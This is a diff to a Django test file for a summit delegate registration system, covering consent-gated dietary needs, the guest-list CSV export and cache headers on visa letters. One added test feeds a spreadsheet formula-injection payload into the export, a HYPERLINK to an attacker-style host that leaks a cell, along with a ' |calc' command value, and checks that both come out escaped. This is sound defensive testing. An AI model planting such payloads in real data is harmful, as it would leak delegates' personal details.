@@ -1,6 +1,8 @@
 """The summit: the event, delegates within their places and the deadline, sensitive needs only
 with consent, visa letters for confirmed delegates, passport data encrypted and deleted."""
 
+import csv
+import io
 import subprocess
 from datetime import date, datetime, timedelta
 
@@ -195,13 +197,28 @@ def test_the_staff_page_summarises_needs_only_with_consent(laureate, staff_clien
     )
 
     page = staff_client.get(reverse("laureates:staff_summit")).content.decode()
-    guests = staff_client.get(reverse("laureates:guests_csv")).content.decode()
+    guests = staff_client.get(reverse("laureates:guests_csv")).content.decode("utf-8-sig")
 
     assert "Maria Kowalska: Halal" in page
     assert "Vegan" not in page
     assert "Maria Kowalska: 4 nights" in page
     assert guests.splitlines()[1].startswith("Fundacja Dzieci,Maria Kowalska,Director,")
     assert "Halal" not in guests
+
+
+def test_what_a_delegate_typed_reaches_the_guest_list_as_text(laureate, staff_client):
+    formula = '=HYPERLINK("http://evil.example/?leak="&B2,"Open")'
+    services.register_delegate(
+        laureate,
+        values=delegate_values(full_name=formula, role=" |calc", phone="+48 600 000 000"),
+        actor=None,
+    )
+
+    response = staff_client.get(reverse("laureates:guests_csv"))
+
+    row = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))[1]
+    assert row[1:5] == ["'" + formula, "' |calc", "maria@fundacja.pl", "'+48 600 000 000"]
+    assert response["Cache-Control"] == "no-store, private"
 
 
 def test_practical_information_reaches_confirmed_delegates_and_contacts(
@@ -246,6 +263,19 @@ def test_the_contact_registers_a_delegate_and_keeps_what_was_typed(laureate, cli
     assert 'value="Maria Kowalska"' in refused.content.decode()
     assert accepted.status_code == 302
     assert Delegate.objects.get().dietary == "Vegetarian"
+
+
+def test_the_visa_letter_is_never_stored_by_a_browser_or_proxy(
+    visa_delegate, staff_user, staff_client
+):
+    visa = give(visa_delegate)
+    services.confirm_delegate(visa_delegate, actor=staff_user)
+    services.approve_visa_letter(visa, actor=staff_user)
+
+    response = staff_client.get(reverse("laureates:visa_letter", args=[visa.pk]))
+
+    assert response["Content-Type"] == "application/pdf"
+    assert "no-store" in response["Cache-Control"] and "private" in response["Cache-Control"]
 
 
 def test_passport_numbers_appear_only_in_the_letter(visa_delegate, staff_user, client):
